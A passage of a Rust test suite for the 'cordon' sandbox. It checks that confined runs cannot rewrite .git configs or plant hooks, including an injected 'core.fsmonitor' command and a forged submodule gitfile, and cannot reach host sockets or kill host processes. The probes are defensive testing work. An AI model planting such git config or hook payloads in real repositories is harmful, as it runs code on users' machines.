    c.probe_with(&o, "overwrite", &[s(&link.join(".git/config")), "pwned\n"])?
        .assert_refused("write .git/config via the symlinked workspace path");
    c.probe_with(&o, "overwrite", &[s(&git.join("config")), "pwned\n"])?
        .assert_refused("write .git/config via the canonical path");
    c.probe_with(&o, "create", &[".git/hooks/pre-commit"])?.assert_refused("relative hook create");
    assert_tree_unchanged(&before, &git, ".git via symlinked workspace");
    c.probe_with(&o, "write", &["README", "edited\n"])?.assert_ok("the rest stays writable");
});

case!(git_protected_inside_writable_root, |c| {
    let repo = git_ws(c, "other-repo");
    let ws = c.ws.join("main-ws");
    c.mkdir(&ws);
    let git = repo.join(".git");
    let before = tree(&git);
    let mut o = opts_at(c, WORKSPACE_WRITE, &ws);
    o.writable.push(repo.clone());
    c.probe_with(&o, "overwrite", &[s(&git.join("config")), "pwned\n"])?
        .assert_refused("write .git/config of a --writable root");
    c.probe_with(&o, "create", &[s(&git.join("hooks/pre-commit"))])?
        .assert_refused("create a hook in a --writable root's .git");
    assert_tree_unchanged(&before, &git, ".git of a writable root");
    c.probe_with(&o, "write", &[s(&repo.join("README")), "edited\n"])?.assert_ok("writable root stays writable");
});

case!(git_symlinked_dotgit_refused_or_protected, |c| {
    // `.git` as a symlink to a directory inside the workspace: cordon may refuse the
    // policy outright; if it runs the command, the target must still be protected.
    let ws = c.ws.join("repo");
    c.mkdir(&ws);
    c.file(&ws.join("README"), "hello\n");
    c.host_sh(&format!("cd '{}' && git init -q -b main . && git add README && git commit -q -m init && mv .git realgit && ln -s realgit .git", ws.display()));
    let real = ws.join("realgit");
    let before = tree(&real);
    let mut o = opts_at(c, WORKSPACE_WRITE, &ws);
    o.expect_error = true;
    let out = c.cordon(&o, &[s(&c.suite.probe), "overwrite", s(&real.join("config")), "pwned\n"])?;
    assert_tree_unchanged(&before, &real, &format!("symlinked .git target: {out:?}"));
    let out = c.cordon(&o, &[s(&c.suite.probe), "symlink-write", "/tmp/x", s(&ws.join(".git"))])?;
    assert!(fs::read_link(ws.join(".git")).unwrap() == Path::new("realgit"), "the .git symlink was replaced: {out:?}");
    let out = c.cordon(&o, &["/bin/sh", "-c", "rm -f .git && mkdir .git && echo '[core]' > .git/config"])?;
    assert!(fs::read_link(ws.join(".git")).is_ok(), "the .git symlink was replaced by a directory: {out:?}");
});

/// errnos for a refused write into a protected tree (read-only mount, Landlock).
const WRITE_REFUSED: &[&str] = &["EROFS", "EACCES", "EPERM"];
/// errnos for a refused rename/unlink of a protected mount point (or into it).
const MOVE_REFUSED: &[&str] = &["EBUSY", "EXDEV", "EROFS", "EACCES", "EPERM"];

/// The attacks on one git directory `git` (run with `o`): rewrite its config, plant a
/// hook, move it away, swap a prepared fake in. Effect: the tree is unchanged.
fn attack_git_dir(c: &Ctx, o: &RunOpts, git: &Path, what: &str) -> Result<(), Skip> {
    let before = tree(git);
    let fake = c.ws.join(format!("fake-{}", c.unique()));
    c.mkdir(&fake);
    c.file(&fake.join("config"), "[core]\n\tfsmonitor = touch /tmp/pwned\n");
    c.probe_with(o, "overwrite", &[s(&git.join("config")), "[core]\n\tfsmonitor = touch /tmp/pwned\n"])?
        .assert_refused_with(WRITE_REFUSED, &format!("rewrite {what}/config"));
    c.probe_with(o, "create", &[s(&git.join("hooks/pre-commit"))])?
        .assert_refused_with(WRITE_REFUSED, &format!("plant a hook in {what}"));
    c.probe_with(o, "rename", &[s(git), s(&fake.join("moved"))])?
        .assert_refused_with(MOVE_REFUSED, &format!("rename {what} away"));
    c.probe_with(o, "exchange", &[s(&fake), s(git)])?
        .assert_refused_with(MOVE_REFUSED, &format!("RENAME_EXCHANGE a fake with {what}"));
    c.probe_with(o, "rename", &[s(&fake.join("config")), s(&git.join("config"))])?
        .assert_refused_with(MOVE_REFUSED, &format!("rename a file over {what}/config"));
    let g = s(git);
    let out =
        c.sh(o, &format!("mv '{g}' '{g}.old'; rm -rf '{g}'; mkdir -p '{g}' && cp -r '{}'/. '{g}'/; true", s(&fake)))?;
    assert_tree_unchanged(&before, git, &format!("{what}: {out:?}"));
    assert_absent(&git.join("hooks/pre-commit"), &format!("hook planted in {what}"));
    assert_absent(Path::new(&format!("{g}.old")), &format!("{what} moved away"));
    Ok(())
}

/// The positive controls in repository `repo`: edit a tracked file, `git status` and
/// `git log` inside.
fn git_repo_still_works(c: &Ctx, o: &RunOpts, repo: &Path) -> Result<(), Skip> {
    c.probe_with(o, "write", &[s(&repo.join("README")), "edited\n"])?.assert_ok("edit a tracked file of the repo");
    let out = c.sh(o, &format!("cd '{}' && git status --porcelain && git log --oneline", s(repo)))?;
    out.assert_success();
    assert!(out.out().contains("initial commit") && out.out().contains(" M README"), "git inside {repo:?}: {out:?}");
    Ok(())
}

case!(git_nested_repo_protected, |c| {
    // A repository inside the workspace, not the workspace's own: its .git configures
    // the `git` the user runs there later, so it is protected like the top one.
    let pkg = git_ws(c, "pkg");
    let o = c.opts(WORKSPACE_WRITE);
    attack_git_dir(c, &o, &pkg.join(".git"), "ws/pkg/.git")?;
    // Deeper, and with the workspace being a repository itself.
    c.git_init();
    let deep = git_ws(c, "vendor/lib");
    attack_git_dir(c, &o, &deep.join(".git"), "ws/vendor/lib/.git")?;
    git_repo_still_works(c, &o, &pkg)?;
    git_repo_still_works(c, &o, &deep)?;
});

case!(git_submodule_gitfile_protected, |c| {
    // A submodule: `ws/sub/.git` is a gitfile naming `ws/.git/modules/sub`. Replacing
    // the gitfile with one naming a planted gitdir would run the planted
    // `core.fsmonitor` on the host at the user's next `git status`.
    let src = c.root.join("subsrc");
    c.mkdir(&src);
    c.file(&src.join("README"), "hello\n");
    c.host_sh(&format!(
        "cd '{}' && git init -q -b main . && git add README && git commit -q -m 'initial commit'",
        s(&src)
    ));
    c.git_init();
    c.host_sh(&format!(
        "git -c protocol.file.allow=always submodule --quiet add '{}' sub && git commit -q -m 'add sub'",
        s(&src)
    ));
    let sub = c.ws.join("sub");
    let gitfile = sub.join(".git");
    let modules = c.ws.join(".git/modules/sub");
    assert!(gitfile.is_file() && modules.is_dir(), "submodule layout");
    let ptr = Sentinel::record(&gitfile);
    let before = tree(&modules);
    let marker = c.outside.join(format!("fsmonitor-ran-{}", c.unique()));
    let o = c.opts(WORKSPACE_WRITE);
    let planted = c.ws.join("planted");
    let plant = format!(
        "mkdir -p planted && cp -r .git/modules/sub/. planted/ && git config -f planted/config core.fsmonitor 'touch {m}' \
         && git config -f planted/config --unset core.worktree; ",
        m = s(&marker)
    );
    let evil = format!("gitdir: {}\n", s(&planted));
    c.sh(&o, &plant)?;
    c.probe_with(&o, "overwrite", &[s(&gitfile), &evil])?.assert_refused_with(WRITE_REFUSED, "rewrite sub/.git");
    c.probe_with(&o, "unlink", &[s(&gitfile)])?.assert_refused_with(MOVE_REFUSED, "delete sub/.git");
    let fake = c.file(&c.ws.join("fake-gitfile"), &evil);
    c.probe_with(&o, "rename", &[s(&fake), s(&gitfile)])?
        .assert_refused_with(MOVE_REFUSED, "rename a fake over sub/.git");
    c.probe_with(&o, "rename", &[s(&gitfile), s(&c.ws.join("moved"))])?
        .assert_refused_with(MOVE_REFUSED, "rename sub/.git away");
    let out = c.sh(&o, &format!("cd sub && rm -f .git; printf '{}' > .git; true", evil.trim_end()))?;
    ptr.assert_unchanged(&format!("sub/.git gitfile: {out:?}"));
    attack_git_dir(c, &o, &modules, "ws/.git/modules/sub")?;
    assert_tree_unchanged(&before, &modules, "the submodule's gitdir");
    // The effect that matters: the user's next `git status` runs nothing planted.
    let _ = c.host_cmd("git").args(["-C", s(&sub), "status", "--porcelain"]).output();
    let _ = c.host_cmd("git").args(["status", "--porcelain"]).output();
    assert_absent(&marker, "planted core.fsmonitor ran on the host");
    // Controls: the submodule's work tree stays editable and git works inside.
    git_repo_still_works(c, &o, &sub)?;
});

case!(git_repos_under_extra_writable_root_protected, |c| {
    // `--writable <dir>` holding repositories (like `--writable ~/src`): each one's git
    // directory stays read-only, a bare repository included.
    let src = c.outside.join("src");
    c.mkdir(&src);
    let a = src.join("a");
    c.mkdir(&a);
    c.file(&a.join("README"), "hello\n");
    c.host_sh(&format!(
        "cd '{}' && git init -q -b main . && git add README && git commit -q -m 'initial commit'",
        s(&a)
    ));
    c.host_sh(&format!("git clone -q --bare '{}' '{}'", s(&a), s(&src.join("b.git"))));
    let mut o = c.opts(WORKSPACE_WRITE);
    o.writable.push(src.clone());
    attack_git_dir(c, &o, &a.join(".git"), "<writable>/a/.git")?;
    attack_git_dir(c, &o, &src.join("b.git"), "<writable>/b.git (bare)")?;
    git_repo_still_works(c, &o, &a)?;
    c.probe_with(&o, "create", &[s(&src.join("new-file"))])?.assert_ok("the writable root stays writable");
});

// =====================================================================================
// 4. Network: TCP/UDP over v4/v6/v4-mapped, MPTCP, raw/packet, DNS, listening, unix.
// =====================================================================================

/// errnos of a connect to a loopback port with the network off: the run's own
/// loopback (a network namespace of its own) has nothing listening there
/// (`ECONNREFUSED`), or, without namespaces, IP is refused outright.
const LOOPBACK_MISSED: &[&str] = &["EACCES", "EPERM", "ENETUNREACH", "ECONNREFUSED"];

/// The targets of the network denials a confined run recorded.
fn net_denials(r: &ProbeResult) -> Vec<String> {
    let Some(run) = r.run.as_ref() else { return Vec::new() };
    run.j()["sandbox"]["denials"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|d| d["kind"] == "network")
        .filter_map(|d| d["target"].as_str().map(String::from))
        .collect()
}

/// OP to a host listener on loopback (HOST:PORT). Judged by effect: the listener
/// receives nothing from a confined run. With the network off the run has only its own
/// loopback: a stream connect finds nothing there and is refused, and is recorded as a
/// denial naming the host's port (a listener of the host was out of reach); a datagram
/// sent without `connect()` goes to the run's own loopback (the kernel may say it was
/// sent: nobody received it), one sent through `connect()` is recorded likewise.
fn net_case(c: &Ctx, op: &str, host: &str, trap_v6: bool, udp: bool) -> Result<(), Skip> {
    for how in BOTH_AND_HOST {
        // A fresh listener per attempt, so the control cannot mask the confined run.
        let (port, check): (String, Box<dyn Fn() -> bool>) = if udp {
            let t = if trap_v6 { UdpTrap::v6()? } else { UdpTrap::v4() };
            (t.port_s(), Box::new(move || t.received()))
        } else {
            let t = if trap_v6 { TcpTrap::v6()? } else { TcpTrap::v4() };
            (t.port_s(), Box::new(move || t.connected_within(200)))
        };
        let r = attempt(c, how, op, &[host, &port])?;
        if how == HOST {
            if !r.ok {
                return Err(Skip(format!("control failed, host cannot do {op} {host}: {r:?}")));
            }
            assert!(check(), "control: {op} to {host} worked but the listener saw nothing");
            continue;
        }
        assert!(!check(), "{op} to {host}:{port} from {how}: the listener received traffic\n{r:?}");
        let named = net_denials(&r).iter().any(|t| t.ends_with(&format!(":{port}")));
        match op {
            "tcp" | "udp-connect" => {
                if op == "tcp" {
                    r.assert_refused_with(LOOPBACK_MISSED, &format!("{op} to {host}"));
                }
                assert!(named, "{op} to the host's {host}:{port}: no network denial names it\n{r:?}");
            }
            // Refused at socket() (no port to name): some network denial.
            "mptcp" => {
                r.assert_refused_with(NET_DENIED, &format!("{op} to {host}"));
                assert!(!net_denials(&r).is_empty(), "{op}: no network denial\n{r:?}");
            }
            _ => {}
        }
    }
    Ok(())
}

case!(net_tcp4_connect_denied, |c| {
    net_case(c, "tcp", "127.0.0.1", false, false)?;
});

case!(net_tcp6_connect_denied, |c| {
    net_case(c, "tcp", "::1", true, false)?;
});

case!(net_tcp_v4_mapped_connect_denied, |c| {
    net_case(c, "tcp", "::ffff:127.0.0.1", false, false)?;
});

case!(net_udp4_send_denied, |c| {
    net_case(c, "udp", "127.0.0.1", false, true)?;
});

case!(net_udp6_send_denied, |c| {
    net_case(c, "udp", "::1", true, true)?;
});

case!(net_udp_v4_mapped_send_denied, |c| {
    net_case(c, "udp", "::ffff:127.0.0.1", false, true)?;
});

case!(net_dns_query_denied, |c| {
    net_case(c, "dns", "127.0.0.1", false, true)?;
});

case!(net_udp_connect_to_host_loopback_reaches_nothing, |c| {
    // UDP through connect() (glibc's resolver to a stub on 127.0.0.53 does this): the
    // datagram goes to the run's own loopback, and the host's socket is named.
    net_case(c, "udp-connect", "127.0.0.1", false, true)?;
    net_case(c, "udp-connect", "::1", true, true)?;
});

case!(net_mptcp_connect_denied, |c| {
    net_case(c, "mptcp", "127.0.0.1", false, false)?;
});

case!(net_raw_packet_netlink_ping_denied, |c| {
    for (op, args) in
        [("raw", vec![]), ("raw6", vec![]), ("packet", vec![]), ("netlink", vec![]), ("ping", vec!["127.0.0.1"])]
    {
        let host = c.host_probe(op, &args);
        for mode in CONFINED {
            let r = c.probe(mode, op, &args)?;
            r.assert_refused(&format!("{op} socket"));
            if host.ok {
                // Only meaningful where the host allows it (root: raw/packet; all: netlink).
                r.assert_refused_with(NET_DENIED, &format!("{op} socket"));
            }
        }
    }
});

case!(net_every_socket_family_denied, |c| {
    // Every address family and type (vsock to the VM host, AF_ALG, AF_XDP, CAN, ...).
    let host = c.host_probe("socket-sweep", &[]);
    assert!(host.detail != "created=[]", "control: the host can create some sockets: {host:?}");
    // Unix stream and seqpacket sockets (1/1, 1/5) may be created: their connect()s
    // reach only the run's own sockets (net_unix_* cases judge that by effect), and
    // creating them lets cordon's supervisor report which daemon a command tried to
    // reach. TCP and UDP over IPv4 and IPv6 (2/1, 2/2, 10/1, 10/2) exist only in the
    // run's own network namespace (net_loopback_* cases).
    for mode in CONFINED {
        let r = c.probe(mode, "socket-sweep", &[])?;
        r.assert_ok("socket sweep");
        assert!(
            matches!(r.detail.as_str(), "created=[]" | "created=[1/1,1/5]" | "created=[1/1,1/5,2/1,2/2,10/1,10/2]"),
            "socket() worked inside for family/type pairs ({mode}): {}",
            r.detail
        );
    }
    c.probe(WORKSPACE_WRITE, "socketpair", &[])?.assert_ok("socketpair stays available");
});

case!(net_listen_unreachable_from_host, |c| {
    for mode in CONFINED {
        let port = free_port();
        let ps = port.to_string();
        let opts = c.opts(mode);
        let (tx, rx) = std::sync::mpsc::channel();
        let h = std::thread::scope(|sc| {
            let h = sc.spawn(|| {
                let r = c.probe_with(&opts, "listen", &["127.0.0.1", &ps, "1500"]);
                let _ = tx.send(());
                r
            });
            let connected = connect_attempts(port, || rx.try_recv().is_ok());
            (h.join().unwrap(), connected)
        });
        let (r, connected) = h;
        let r = r?;
        assert!(!connected, "a host client reached a listener opened inside the sandbox ({mode})\n{r:?}");
        // Listening works in the run's own network namespace (nothing outside reaches
        // it); without one, it is refused.
        if r.ok {
            assert_eq!(r.detail, "listening; accepted=0", "{mode}: a connection was accepted\n{r:?}");
        } else {
            r.assert_refused_with(NET_DENIED, "listen on a TCP port");
        }
    }
});

case!(net_unix_pathname_sockets_denied, |c| {
    for how in BOTH_AND_HOST {
        let _f = fx(c, how);
        // sun_path holds 108 bytes: keep the daemon's sockets in a short directory.
        static N: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let dir = PathBuf::from(format!(
            "/var/tmp/cus{}-{}",
            std::process::id(),
            N.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
        ));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::set_permissions(&dir, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
        struct Rm(PathBuf);
        impl Drop for Rm {
            fn drop(&mut self) {
                let _ = std::fs::remove_dir_all(&self.0);
            }
        }
        let _rm = Rm(dir.clone());
        let stream_p = dir.join("d.sock");
        let dgram_p = dir.join("d.dgram");
        let stream = UnixTrap::stream_path(c, &stream_p);
        let dgram = UnixTrap::dgram_path(c, &dgram_p);
        let r1 = attempt(c, how, "unix-connect", &[s(&stream_p)])?;
        let r2 = attempt(c, how, "unix-dgram", &[s(&dgram_p)])?;
        if is_control(how, &r1, "unix stream connect") && is_control(how, &r2, "unix dgram send") {
            assert!(stream.touched_within(500) && dgram.touched_within(500), "control: daemon saw nothing");
            continue;
        }
        r1.assert_refused_with(NET_DENIED, "connect to a host daemon's pathname unix socket");
        r2.assert_refused_with(NET_DENIED, "send to a host daemon's pathname unix datagram socket");
        stream.assert_untouched("pathname unix stream");
        dgram.assert_untouched("pathname unix dgram");
    }
});

case!(net_unix_abstract_sockets_denied, |c| {
    for how in BOTH_AND_HOST {
        let name_s = format!("cordon-test-{}", c.unique());
        let name_d = format!("cordon-test-{}", c.unique());
        let stream = UnixTrap::stream_abstract(&name_s);
        let dgram = UnixTrap::dgram_abstract(&name_d);
        let r1 = attempt(c, how, "unix-abstract", &[&name_s])?;
        let r2 = attempt(c, how, "unix-abstract-dgram", &[&name_d])?;
        if is_control(how, &r1, "abstract connect") && is_control(how, &r2, "abstract dgram") {
            assert!(stream.touched_within(500) && dgram.touched_within(500), "control: daemon saw nothing");
            continue;
        }
        // The run's abstract names are its own network namespace's: the host's name is
        // not there (refused, and recorded as the host's socket out of reach).
        r1.assert_refused_with(LOOPBACK_MISSED, "connect to an abstract unix socket");
        assert!(
            net_denials(&r1).iter().any(|t| t == &format!("unix:@{name_s}")),
            "the host's abstract socket is not named in a denial\n{r1:?}"
        );
        r2.assert_refused_with(NET_DENIED, "send to an abstract unix datagram socket");
        stream.assert_untouched("abstract unix stream");
        dgram.assert_untouched("abstract unix dgram");
    }
});

/// The private temp dir of a confined run whose workspace is `c.ws` (`/tmp`, or
/// `/dev/shm` for a workspace under `/tmp`: see `landlock::sandbox_tmpdir`).
fn run_tmpdir(c: &Ctx) -> &'static str {
    if c.ws.starts_with("/tmp") {
        "/dev/shm"
    } else {
        "/tmp"
    }
}

// With the network off a run has a loopback of its own: a server it starts on
// 127.0.0.1 or ::1 (on the very port a host listener holds) answers its own clients,
// its unix sockets (in the workspace, in its private temp dir, abstract names) work,
// and none of it is a denial; the host's listeners on those ports receive nothing.
// Without namespaces (an unprivileged caller whose user namespaces are blocked, with
// --best-effort) IP stays refused as before.
case!(net_loopback_ipc_is_the_runs_own, |c| {
    c.host_probe("loopback-echo", &["127.0.0.1", "0"]).assert_ok("control: a loopback server on the host");
    let dir = SockDir::new();
    c.host_probe("unix-echo", &[s(&dir.0.join("hc.sock"))]).assert_ok("control: a unix socket on the host");
    let t4 = TcpTrap::v4();
    let t6 = TcpTrap::v6()?;
    for mode in CONFINED {
        for (host, trap) in [("127.0.0.1", &t4), ("::1", &t6)] {
            let r = c.probe(mode, "loopback-echo", &[host, &trap.port_s()])?;
            r.assert_ok(&format!("{mode}: a server of the run on {host}, on the port a host listener holds"));
            assert_eq!(r.detail, "echo=ping", "{r:?}");
            trap.assert_untouched(&format!("{mode}: the run's own server on {host}"));
            assert!(net_denials(&r).is_empty(), "{mode}: a local connection was reported as a denial\n{r:?}");
        }
        let tag = c.unique();
        let in_tmp = format!("{}/own-{tag}.sock", run_tmpdir(c));
        let abs = format!("cordon-own-{tag}");
        let mut socks = vec![("unix-echo", in_tmp.clone()), ("unix-abstract-echo", abs)];
        if mode == WORKSPACE_WRITE {
            // Relative to the workspace (the run's cwd): sun_path holds 108 bytes.
            socks.push(("unix-echo", format!("own-{tag}.sock")));
        }
        for (op, at) in socks {
            let r = c.probe(mode, op, &[&at])?;
            r.assert_ok(&format!("{mode}: {op} {at}"));
            assert!(net_denials(&r).is_empty(), "{mode}: {op}: a local connection was reported\n{r:?}");
        }
        assert_absent(Path::new(&in_tmp), "the run's socket in its private temp dir appeared on the host");
        if mode == READ_ONLY {
            // A socket file is a file: none in a read-only workspace, and the refusal
            // is a write denial naming it.
            let name = format!("ro-{tag}.sock");
            let r = c.probe(mode, "unix-echo", &[&name])?;
            r.assert_refused_with(FS_DENIED, "read-only: a socket bound in the workspace");
            assert_absent(&c.ws.join(&name), "read-only: a socket file appeared in the workspace");
            let j = r.run.as_ref().unwrap().j();
            let named =
                j["sandbox"]["denials"].as_array().into_iter().flatten().any(|d| {
                    d["kind"] == "file-write" && d["target"].as_str().is_some_and(|t| t.ends_with(name.as_str()))
                });
            assert!(named, "read-only: the refused bind is not a file-write denial\n{r:?}");
        }
    }
    if c.runner == "landlock" && !c.id.is_root() {
        let mut n = c.opts(WORKSPACE_WRITE);
        n.env.push(("CORDON_DISABLE_USERNS".into(), "1".into()));
        n.extra_args.push("--best-effort".into());
        let r = c.probe_with(&n, "loopback-echo", &["127.0.0.1", &t4.port_s()])?;
        r.assert_refused_with(NET_DENIED, "no namespaces: IP stays refused");
        t4.assert_untouched("no namespaces: loopback");
    }
});

// A host daemon's socket inside the workspace (placed there by the host before the run:
// a dev server's, a forwarded agent's) is not the run's: refused and recorded, through
// its own path, a symlink or a hard link the run makes; so is one the host creates
// during the run at the path of a socket the run bound and unlinked, although the
// run's listener is still open.
case!(net_host_socket_in_the_workspace_receives_nothing, |c| {
    let tag = c.unique();
    // A short workspace (sun_path holds 108 bytes), owned by the identity.
    let ws = SockDir::new();
    c.chown_to_me(&ws.0);
    let hp = ws.0.join(format!("h{tag}.sock"));
    let host = UnixTrap::stream_path(c, &hp);
    c.host_probe("unix-connect", &[s(&hp)]).assert_ok("control: the host reaches its daemon");
    assert!(host.touched_within(500), "control: the daemon saw nothing");
    for mode in CONFINED {
        let r = c.probe_with(&opts_at(c, mode, &ws.0), "unix-connect", &[s(&hp)])?;
        r.assert_refused_with(NET_DENIED, &format!("{mode}: the host's socket in the workspace"));
        host.assert_untouched(&format!("{mode}: the host's socket in the workspace"));
        assert!(
            net_denials(&r).iter().any(|t| t == &format!("unix:{}", s(&hp))),
            "{mode}: the refused host socket is not recorded\n{r:?}"
        );
    }
    let o = opts_at(c, WORKSPACE_WRITE, &ws.0);
    let (sym, hard) = (ws.0.join(format!("s{tag}.sock")), ws.0.join(format!("l{tag}.sock")));
    let out = c.sh(&o, &format!("ln -s '{}' '{}' && ln '{}' '{}'", s(&hp), s(&sym), s(&hp), s(&hard)))?;
    assert_eq!(out.exit_code(), Some(0), "links inside the workspace: {out:?}");
    for via in [&sym, &hard] {
        let r = c.probe_with(&o, "unix-connect", &[s(via)])?;
        r.assert_refused_with(NET_DENIED, &format!("the host's socket through {}", s(via)));
        host.assert_untouched(&format!("through {}", s(via)));
    }
    // Replaced during the run: the probe binds, listens, unlinks and announces; the host
    // then binds its own socket at that path, and the probe connects to it.
    let rp = ws.0.join(format!("r{tag}.sock"));
    let gone = PathBuf::from(format!("{}.gone", s(&rp)));
    let (r, replaced) = std::thread::scope(|sc| {
        let h = sc.spawn(|| {
            let deadline = std::time::Instant::now() + Duration::from_secs(20);
            while !gone.exists() && std::time::Instant::now() < deadline {
                std::thread::sleep(Duration::from_millis(10));
            }
            gone.exists().then(|| UnixTrap::stream_path(c, &rp))
        });
        let r = c.probe_with(&o, "unix-own-then-replaced", &[s(&rp), "15000"]);
        (r, h.join().unwrap())
    });
    let r = r?;
    let replaced = replaced.unwrap_or_else(|| panic!("the probe never announced its unlink\n{r:?}"));
    r.assert_refused_with(NET_DENIED, "the host's socket at the path of the run's unlinked one");
    replaced.assert_untouched("the host's socket at the path of the run's unlinked one");
});

// The run's /tmp and /dev/shm show the host's files through private layers: a host
// daemon's socket there (an X11 or tmux socket, an ssh agent's) is visible inside, and
// must receive nothing, while the run's own socket in the same layer works.
case!(net_host_socket_under_the_private_tmp_receives_nothing, |c| {
    for base in ["/tmp", "/dev/shm"] {
        let dir = PathBuf::from(format!("{base}/cordon-hs-{}", c.unique()));
        fs::create_dir_all(&dir).unwrap();
        set_mode(&dir, 0o777);
        let _rm = SockDir(dir.clone());
        let hp = dir.join("h.sock");
        let host = UnixTrap::stream_path(c, &hp);
        c.host_probe("unix-connect", &[s(&hp)]).assert_ok("control: the host reaches its daemon");
        assert!(host.touched_within(500), "control: the daemon saw nothing");
        for mode in CONFINED {
            let r = c.probe(mode, "unix-connect", &[s(&hp)])?;
            r.assert_refused_with(LOOPBACK_MISSED, &format!("{mode}: the host's socket under {base}"));
            host.assert_untouched(&format!("{mode}: the host's socket under {base}"));
            // (Directly under the private layer: a host directory owned by a uid the
            // run's user namespace does not map cannot be copied up, EOVERFLOW.)
            let own = PathBuf::from(format!("{base}/cordon-own-{}.sock", c.unique()));
            c.probe(mode, "unix-echo", &[s(&own)])?.assert_ok(&format!("{mode}: the run's own socket beside it"));
            assert_absent(&own, "the run's socket reached the host's directory");
        }
    }
});

// Two runs at once share a workspace: one listens on 127.0.0.1:PORT and on a unix
// socket in the workspace; the other's connects to both reach nothing of it (each run
// has a loopback of its own, and a unix socket is only connectable by the run whose
// namespace listens on it).
case!(net_a_run_cannot_reach_another_runs_loopback, |c| {
    let port = free_port().to_string();
    let ws = SockDir::new();
    c.chown_to_me(&ws.0);
    let sock = ws.0.join(format!("a{}.sock", c.unique()));
    let o = opts_at(c, WORKSPACE_WRITE, &ws.0);
    let (a, b) = std::thread::scope(|sc| {
        let a = sc.spawn(|| c.probe_with(&o, "unix-listen", &[s(&sock), "4000", &port]));
        let deadline = std::time::Instant::now() + Duration::from_secs(20);
        while !sock.exists() && std::time::Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(10));
        }
        let up = sock.exists();
        let b = (
            c.probe_with(&o, "tcp", &["127.0.0.1", &port]),
            c.probe_with(&opts_at(c, READ_ONLY, &ws.0), "unix-connect", &[s(&sock)]),
        );
        (a.join().unwrap(), (up, b))
    });
    let a = a?;
    let (up, (tcp, unix)) = b;
    assert!(up, "the listening run never bound its socket\n{a:?}");
    tcp?.assert_refused_with(LOOPBACK_MISSED, "another run's loopback listener");
    unix?.assert_refused_with(NET_DENIED, "another run's unix socket");
    a.assert_ok("the listening run");
    assert_eq!(a.detail, "listening; accepted=0", "the other run reached this one\n{a:?}");
});

/// A short directory for host daemons' sockets (sun_path holds 108 bytes), removed on drop.
struct SockDir(PathBuf);

impl SockDir {
    fn new() -> SockDir {
        static N: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let dir = PathBuf::from(format!("/var/tmp/cun{}-{n}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::set_permissions(&dir, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
        SockDir(dir)
    }
}

impl Drop for SockDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

// `--network` means IP, not the host's local daemons: pathname and abstract unix
// sockets of host listeners stay unreachable, while loopback TCP, a socketpair and the
// host's own connection to the same listener work.
case!(net_on_host_unix_sockets_denied, |c| {
    let mut on = c.opts(WORKSPACE_WRITE);
    on.network = true;
    for how in [WORKSPACE_WRITE, HOST] {
        let dir = SockDir::new();
        let (stream_p, dgram_p, pair_p) = (dir.0.join("d.sock"), dir.0.join("d.dgram"), dir.0.join("p.dgram"));
        let stream = UnixTrap::stream_path(c, &stream_p);
        let dgram = UnixTrap::dgram_path(c, &dgram_p);
        let pair_dgram = UnixTrap::dgram_path(c, &pair_p);
        let (name_s, name_d) = (format!("cordon-on-{}", c.unique()), format!("cordon-on-{}", c.unique()));
        let abs_s = UnixTrap::stream_abstract(&name_s);
        let abs_d = UnixTrap::dgram_abstract(&name_d);
        let run = |op: &str, args: &[&str]| -> Result<ProbeResult, Skip> {
            if how == HOST {
                Ok(c.host_probe(op, args))
            } else {
                c.probe_with(&on, op, args)
            }
        };
        let r = [
            run("unix-connect", &[s(&stream_p)])?,
            run("unix-dgram", &[s(&dgram_p)])?,
            run("socketpair-dgram-send", &[s(&pair_p)])?,
            run("unix-abstract", &[&name_s])?,
            run("unix-abstract-dgram", &[&name_d])?,
        ];
        let traps = [&stream, &dgram, &pair_dgram, &abs_s, &abs_d];
        let what =
            ["pathname stream", "pathname dgram", "dgram socketpair sendto", "abstract stream", "abstract dgram"];
        for ((r, t), w) in r.iter().zip(traps).zip(what) {
            if is_control(how, r, w) {
                assert!(t.touched_within(500), "control: the host listener saw nothing ({w})");
                continue;
            }
            r.assert_refused_with(NET_DENIED, &format!("--network: {w} to a host unix socket"));
            t.assert_untouched(&format!("--network: {w}"));
        }
        // The refusal is not reported (glibc's name-service probes make the same call
        // in every `ls -l`; see docs/denials.md), so it must not arm anything either.
        if how != HOST {
            let j = r[0].run.as_ref().unwrap().j();
            let hit = j["sandbox"]["denials"]
                .as_array()
                .into_iter()
                .flatten()
                .any(|d| d["target"].as_str().is_some_and(|t| t.starts_with("socket(AF_UNIX")));
            assert!(!hit, "--network: a unix socket() refusal was reported: {j}");
        }
        // Controls inside: IP still works, a socketpair still works.
        if how != HOST {
            let t = TcpTrap::v4();
            c.probe_with(&on, "tcp", &["127.0.0.1", &t.port_s()])?.assert_ok("--network: loopback TCP");
            assert!(t.connected_within(500), "--network: the TCP listener saw no connection");
            c.probe_with(&on, "socketpair", &[])?.assert_ok("--network: socketpair stays available");
        }
    }
});

// =====================================================================================
// 5. Other processes: signals, ptrace, process_vm_*, /proc/<pid>/*, setns,
//    priority/rlimit; nothing the command started may outlive its run.
// =====================================================================================

case!(proc_kill_denied, |c| {
    for mode in CONFINED {
        let mut v = c.victim();
        for op in ["kill", "pidfd-kill"] {
            let r = c.probe(mode, op, &[&v.pid_s(), "9"])?;
            v.assert_untouched(&format!("{op} SIGKILL of a host process ({mode})"));
            r.assert_refused(&format!("{op} of a host process"));
        }
        let r = c.probe(mode, "kill", &[&v.pid_s(), "19"])?; // SIGSTOP
        v.assert_untouched(&format!("SIGSTOP of a host process ({mode})"));
        r.assert_refused("SIGSTOP of a host process");
    }
    let mut ctl = c.victim();
    c.host_probe("kill", &[&ctl.pid_s(), "9"]).assert_ok("control: kill on the host");
    std::thread::sleep(Duration::from_millis(50));
    assert!(ctl.child.try_wait().unwrap().is_some(), "control: the victim survived a host kill");
});

unpriv_case!(proc_kill_all_denied, |c| {
    // kill(-1): every process this uid may signal. Only as the dedicated unprivileged
    // uid: as root a broken sandbox would take the machine down.
    for mode in CONFINED {
        let mut v = c.victim();
